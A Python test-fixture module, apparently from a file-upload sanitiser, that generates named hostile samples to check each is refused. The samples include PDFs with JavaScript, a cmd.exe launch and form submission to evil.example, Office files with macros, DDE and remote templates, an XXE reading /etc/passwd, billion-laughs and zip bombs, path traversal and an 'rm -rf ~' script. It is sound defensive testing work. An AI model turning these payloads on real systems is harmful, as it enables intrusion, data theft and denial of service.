"""Hostile files by name: how each is made, and why it is refused. And sound ones that hide something."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from llwybr.core.files.tests.making import (
    CANARY,
    chunk,
    document_with_names,
    exif,
    jpeg_of,
    locked_pdf,
    moving,
    office,
    opendocument,
    packed,
    pdf,
    pdf_that,
    pdf_with_names,
    photo,
    picture,
    png_of,
    relation,
    screenshot,
    stream,
    workbook_with_names,
)

Made = Callable[[], bytes]

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEN_MB = b"\0" * 10_000_000


def encrypted_entry() -> bytes:
    made = bytearray(office())
    for at in range(len(made)):
        if made[at : at + 4] == b"PK\1\2":
            made[at + 8] |= 1
    return bytes(made)


def lying_size() -> bytes:
    """Its directory says that a part is small, and it is not."""
    made = bytearray(office(more={"word/styles.xml": b"<a>" + b" " * 120_000_000 + b"</a>"}))
    at = made.rindex(b"PK\1\2", 0, made.rindex(b"word/styles.xml"))
    made[at + 24 : at + 28] = struct.pack("<L", 900_000)
    return bytes(made)


def many_entries() -> bytes:
    return office(more={f"word/a{n}.xml": b"<a/>" for n in range(2001)})


def twice() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


def old_office(said: str = "") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + said.encode("utf-16-le").ljust(4096, b"\0")


def flat(size: int) -> bytes:
    pack = zlib.compressobj(9)
    return b"".join(pack.compress(TEN_MB) for _ in range(size // len(TEN_MB))) + pack.flush()


def many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 206))
    pages = [b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]>>"] * 201
    return pdf(b"<</Type/Pages/Kids[" + kids + b"]/Count 201>>", *pages, root=b"/Pages 4 0 R")


def laughs() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return office(more={"word/styles.xml": f'<!DOCTYPE a [<!ENTITY a0 "ha">{lines}]><a>&a9;</a>'})


def split_field(*parts: str) -> str:
    begin, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
    return begin + "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in parts) + end


def heavy_png() -> bytes:
    return png_of(30_000, 20_000, pixels=b"\0" * 5_000_000)


def many_scans() -> bytes:
    """A progressive JPEG of 16 million pixels that repeats its last scan until it is 20 MB: each has to be gone through."""
    made = picture(size=(4000, 4000), progressive=True)
    last = made.rindex(b"\xff\xda")
    return made[:last] + made[last:-2] * 6000 + b"\xff\xd9"


HOSTILE: dict[str, tuple[Made, str]] = {
    # Whose content is of no kind that is taken, whatever they are called.
    "empty": (lambda: b"", "empty"),
    "a drawing with a script": (lambda: b'<svg xmlns="urn:s"><script>alert(1)</script></svg>', "svg"),
    "a drawing behind a comment": (lambda: b"<?xml version='1.0'?><!-- photo --><svg onload='x()'/>", "svg"),
    "a web page": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "html"),
    "a web page behind spaces": (lambda: b"\xef\xbb\xbf \r\n\t<ScRiPt src=//x></script>", "html"),
    "a web page as a letter": (lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related", "html"),
    "a program for Windows": (lambda: b"MZ\x90\0\3\0\0\0", "program"),
    "a program for Linux": (lambda: b"\x7fELF\2\1\1", "program"),
    "a program for Macs": (lambda: b"\xcf\xfa\xed\xfe\7\0\0\1", "program"),
    "a script": (lambda: b"#!/bin/sh\nrm -rf ~\n", "program"),
    "a shortcut": (lambda: b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0", "program"),
    "a link for the desktop": (lambda: b"[InternetShortcut]\nURL=file://evil/x", "program"),
    "an archive": (lambda: packed({"a.txt": "a"}), "archive"),
    "an empty archive": (lambda: packed({}), "archive"),
    "an archive of gzip": (lambda: b"\x1f\x8b\x08\0", "archive"),
    "an archive of 7-Zip": (lambda: b"7z\xbc\xaf\x27\x1c", "archive"),
    "an archive of tar": (lambda: b"a.txt".ljust(257, b"\0") + b"ustar\0", "archive"),
    "a Java archive": (lambda: packed({"META-INF/MANIFEST.MF": "a", "A.class": b"\xca\xfe"}), "archive"),
    "an archive within an archive": (lambda: packed({"a.zip": packed({"b.zip": packed({"c": "c"})})}), "archive"),
    "rich text with an object": (lambda: rb"{\rtf1{\object\objdata 0105}}", "rich"),
    "a film": (lambda: b"\0\0\0\x18ftypmp42", "media"),
    "a sound": (lambda: b"ID3\3\0\0", "media"),
    "a photo as HEIC": (lambda: b"\0\0\0\x18ftypheic", "heic"),
    "a GIF that is a script": (lambda: b"GIF89a=1;/*" + b"\0" * 20 + b"*/;alert(1)", "picture"),
    "a text with a PDF in it": (lambda: b"Dear all,\n%PDF-1.4\n1 0 obj", "mixed"),
    "a text with an archive in it": (lambda: b"Dear all,\n" + packed({"a": "a"}), "mixed"),
    "a text as UTF-16": (lambda: "Shwmae".encode("utf-16"), "encoding"),
    "a text as Windows-1252": (lambda: "T\u00ea".encode("cp1252") * 9, "encoding"),
    "a text with a NUL": (lambda: b"a\0b", "unknown"),
    "a text that steers a terminal": (lambda: b"\x1b]0;x\x07", "unknown"),
    "a text that is too large": (lambda: b"a" * 1_000_001, "size"),
    # Pictures.
    "30,000 by 30,000 pixels": (lambda: png_of(30_000, 30_000), "pixels"),
    "30,000 by 30,000 pixels as JPEG": (lambda: jpeg_of(30_000, 30_000), "pixels"),
    "30 million pixels, layer upon layer": (lambda: jpeg_of(6000, 5000, progressive=True), "pixels"),
    "a PNG of a few kilobytes and 600 million pixels": (heavy_png, "pixels"),
    "a PNG whose text unpacks to hundreds of megabytes": (
        lambda: png_of(9, 9, chunk(b"zTXt", b"a\0\0" + flat(300_000_000))),
        "broken",
    ),
    "a PNG whose profile unpacks to hundreds of megabytes": (
        lambda: png_of(9, 9, chunk(b"iCCP", b"a\0\0" + flat(300_000_000))),
        "broken",
    ),
    "a JPEG of thousands of scans": (many_scans, "heavy"),
    "a picture that moves": (moving, "moving"),
    "a WebP that moves": (lambda: moving("WEBP"), "moving"),
    "half a photo": (lambda: picture(size=(900, 900), quality=99)[:3000], "broken"),
    "a photo with nothing in it": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 64, "broken"),
    # PDF.
    "a PDF with a script": (lambda: pdf_that(b"<</S/JavaScript/JS(app.alert(1))>>"), "script"),
    "a PDF with a script in a stream": (lambda: pdf_that(b"<</S/JavaScript/JS 5 0 R>>"), "script"),
    "a PDF with a script under another spelling": (lambda: pdf_that(b"<</S/J#61vaScript/#4a#53(app.alert(1))>>"), "script"),
    "a PDF with scripts by name": (lambda: pdf(root=b"/Names<</JavaScript<</Names[]>>>>"), "script"),
    "a PDF with a script behind a harmless action": (
        lambda: pdf_that(b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/JavaScript/JS(x)>>]>>"),
        "script",
    ),
    "a PDF with a script when its page is seen": (lambda: pdf(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>"), "script"),
    "a PDF with a script and a broken trailer": (
        lambda: pdf_that(b"<</S/JavaScript/JS(x)>>").replace(b"/Root 1 0 R", b"/Root 1 0\0\0R R"),
        "script",
    ),
    "a PDF that starts a program": (lambda: pdf_that(b"<</S/Launch/F(cmd.exe)>>"), "launch"),
    "a PDF that sends a form": (lambda: pdf_that(b"<</S/SubmitForm/F(http://evil.example)>>"), "launch"),
    "a PDF that opens another": (lambda: pdf_that(rb"<</S/GoToR/F(\\\\evil\\x.pdf)>>"), "launch"),
    "a PDF whose link is a script": (lambda: pdf_that(b"<</S/URI/URI(javascript:alert(1))>>"), "launch"),
    "a PDF with an action that nobody knows": (lambda: pdf_that(b"<</S/Teleport>>"), "launch"),
    "a PDF that names what it starts elsewhere": (
        lambda: pdf(b"<</S 5 0 R/F(cmd.exe)>>", b"/Launch", root=b"/OpenAction 4 0 R"),
        "launch",
    ),
    "a PDF packed twice whose packing is named elsewhere": (
        lambda: pdf(stream(b"", b"/Filter 5 0 R"), b"[/Fl 6 0 R]", b"/FlateDecode", page=b"/Contents 4 0 R"),
        "depth",
    ),
    "a PDF with a film": (lambda: pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"), "launch"),
    "a PDF with a file attached": (
        lambda: pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", stream(b"MZ"), root=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"),
        "attached",
    ),
    "a PDF with a file on its page": (
        lambda: pdf(page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]>>]"),
        "attached",
    ),
    "a PDF with a form of Adobe's own": (lambda: pdf(root=b"/AcroForm<</XFA[]>>"), "form"),
    "a PDF with a password": (locked_pdf, "locked"),
    "a PDF whose pictures lie elsewhere": (
        lambda: pdf(stream(b"", b"/F(http://evil.example/a.jpg)"), page=b"/Contents 4 0 R"),
        "outside",
    ),
    "a PDF that unpacks to hundreds of megabytes": (
        lambda: pdf(stream(flat(400_000_000), b"/Filter/FlateDecode"), page=b"/Contents 4 0 R"),
        "unpacked",
    ),
    "a PDF packed twice": (
        lambda: pdf(stream(zlib.compress(flat(100_000_000)), b"/Filter[/FlateDecode/FlateDecode]"), page=b"/Contents 4 0 R"),
        "depth",
    ),
    "a PDF of 201 pages": (many_pages, "pages"),
    "a PDF of too many objects": (
        lambda: pdf(*[b"<<>>"] * 20_001, root=b"/A[" + b" ".join(b"%d 0 R" % n for n in range(4, 20_005)) + b"]"),
        "entries",
    ),
    "a PDF nested without end": (lambda: pdf(root=b"/A" + b"[" * 200_000 + b"]" * 200_000), "broken"),
    "a PDF with nothing in it": (lambda: b"%PDF-1.7\n%%EOF", "broken"),
    "a PDF whose pages go round": (lambda: pdf(b"<</Type/Pages/Kids[4 0 R]/Count 9>>", root=b"/Pages 4 0 R"), "broken"),
    # Documents that are packed.
    "a document with macros": (lambda: office(main=MACRO), "macros"),
    "a document with a macro part": (lambda: office(more={"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    "a document with macros that are called a picture": (
        lambda: office(said='<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "a workbook with macros of 1992": (lambda: office("xlsx", more={"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "a document with a control": (lambda: office(more={"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "a slide that starts a program": (lambda: office("pptx", '<w:h action="ppaction://program"/>'), "active"),
    "a document with a drawing that runs": (lambda: office(more={"word/media/a.svg": "<svg onload='x()'/>"}), "active"),
    "a document with a file inside": (lambda: office(more={"word/embeddings/oleObject1.bin": b"MZ"}), "inside"),
    "a document with a web page inside": (lambda: office("docx", "", relation("aFChunk", "a.html")), "inside"),
    "a document with an object": (lambda: office("docx", "<w:OLEObject/>"), "inside"),
    "a document with a template elsewhere": (
        lambda: office("docx", "", relation("attachedTemplate", "http://evil.example/a.dotm", outside=True)),
        "outside",
    ),
    "a document with a picture elsewhere": (
        lambda: office("docx", "", relation("image", "http://evil.example/a.png", outside=True)),
        "outside",
    ),
    "a document with a link to a share": (
        lambda: office("docx", "", relation("hyperlink", r"file://\\evil\x", outside=True)),
        "outside",
    ),
    "a document that asks another program": (lambda: office("docx", split_field("DD", "EAUTO c:\\cmd.exe")), "outside"),
    "a document that asks another program in short": (lambda: office("docx", '<w:fldSimple w:instr=" DDE a b"/>'), "outside"),
    "a workbook with links": (lambda: office("xlsx", more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
    "a workbook with a connection": (lambda: office("xlsx", more={"xl/connections.xml": "<a/>"}), "outside"),
    "a document with entities": (
        lambda: office(more={"word/styles.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        "part",
    ),
    "a document that laughs a billion times": (laughs, "part"),
    "a document in another encoding": (
        lambda: office(more={"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        "part",
    ),
    "a document with a part nobody knows": (lambda: office(more={"word/a.exe": b"MZ"}), "part"),
    "a document that is none": (lambda: office(main="text/html"), "part"),
    "a document nested without end": (lambda: office("docx", "<w:p>" * 5000 + "</w:p>" * 5000), "depth"),
    "a document that unpacks to hundreds of megabytes": (lambda: office(more={"word/a.xml": b" " * 90_000_000}), "unpacked"),
    "a document that says it is small": (lying_size, "broken"),
    "a document of 2,001 parts": (many_entries, "entries"),
    "a document with a way out": (lambda: office(more={"word/../../etc/cron.xml": "<a/>"}), "broken"),
    "a document with a part twice": (twice, "broken"),
    "a document with a picture that is none": (lambda: office(more={"word/media/a.png": b"MZ"}), "broken"),
    "half a document": (lambda: office()[:-40], "broken"),
    "a document with a lock on a part": (encrypted_entry, "locked"),
    "a document with a password": (lambda: old_office("EncryptedPackage"), "locked"),
    "a document of 1997": (old_office, "old_office"),
    "an OpenDocument with macros": (lambda: opendocument(more={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "an OpenDocument that listens": (lambda: opendocument('<s:event-listener xlink:href="vnd.sun.star.script:a"/>'), "macros"),
    "an OpenDocument with a picture elsewhere": (
        lambda: opendocument('<d:image xlink:href="http://evil.example/a.png"/>'),
        "outside",
    ),
    "an OpenDocument with a section elsewhere": (lambda: opendocument('<t:section-source xlink:href="a"/>'), "outside"),
    "an OpenDocument with a link to a share": (lambda: opendocument('<t:a xlink:href="file://evil/x"/>'), "outside"),
    "an OpenDocument with an object": (lambda: opendocument('<d:object-ole xlink:href="./Object 1"/>'), "inside"),
    "an OpenDocument with a password": (lambda: opendocument(manifest="<m:encryption-data/>"), "locked"),
}  # fmt: skip

# What is kept: how it is made, what it is kept as, and what is said of it elsewhere.
HIDING: dict[str, tuple[Made, str]] = {
    "a photo with its place": (photo, "jpeg"),
    "a photo with an archive behind it": (lambda: photo() + packed({"a": CANARY}), "jpeg"),
    "a screenshot with its author": (screenshot, "png"),
    "a photo whose place is broken": (lambda: picture(exif=b"Exif\0\0" + CANARY), "jpeg"),
    "a WebP with its place": (lambda: picture("WEBP", exif=exif()), "jpeg"),
    "a PDF with its author": (pdf_with_names, "pdf"),
    "a PDF with an archive behind it": (lambda: pdf() + packed({"a": CANARY}), "pdf"),
    "a document with its author": (document_with_names, "docx"),
    "a workbook with its author": (workbook_with_names, "xlsx"),
    "a presentation with its author": (lambda: office("pptx", more={"docProps/core.xml": CANARY}), "pptx"),
    "an OpenDocument with its author": (
        lambda: opendocument(
            "<t:p>seen</t:p>", more={"Pictures/a.jpg": photo(), "META-INF/documentsignatures.xml": CANARY}
        ),
        "odt",
    ),
}
